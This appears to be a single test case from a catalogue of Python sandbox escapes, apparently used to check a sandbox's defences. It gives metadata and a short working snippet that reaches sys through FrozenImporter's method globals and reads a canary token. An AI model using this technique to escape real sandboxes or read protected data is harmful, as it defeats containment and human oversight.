# id: subclass-frozen-importer-globals
# family: object-graph
# kind: escape
# invariant: D, E, G
# origin: common practice in jail-breaking contests
# technique: a classmethod of FrozenImporter is written in Python, so its function carries the globals of frozen importlib, with sys
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, interpreter
# fix: structural
# alive-when: canary

for c in object.__subclasses__():
    if c.__name__ == "FrozenImporter":
        bootstrap = c.find_spec.__func__.__globals__
        print(bootstrap["sys"].modules["padcell_canary"].TOKEN)
